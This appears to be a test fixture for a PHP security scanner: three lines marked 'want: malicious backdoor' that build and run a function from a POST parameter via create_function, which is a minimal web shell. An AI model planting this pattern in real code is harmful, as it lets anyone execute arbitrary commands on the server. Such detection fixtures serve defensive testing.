<?php return; // want: malicious backdoor
$f = create_function('', $_POST['body']);
$f();
